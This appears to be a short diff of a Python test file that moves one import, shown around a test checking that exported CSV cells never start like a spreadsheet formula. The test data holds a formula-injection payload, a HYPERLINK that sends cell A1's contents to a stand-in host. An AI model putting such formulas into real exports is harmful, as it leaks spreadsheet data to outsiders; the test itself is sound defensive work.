@@ -186,7 +186,7 @@ def test_every_built_page_carries_the_policy_first_in_its_head(minimal_copy: Pat
 
 def test_csv_cells_never_start_like_a_formula(minimal_copy: Path) -> None:
     from trustsite.export.subprocessors import build_subprocessors, subprocessors_csv, subprocessors_json
-    from trustsite.load.project import check_project
+    from trustsite.project import check_project
 
     formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Example Mail")'
     data = minimal_copy / "data" / "subprocessors.yml"
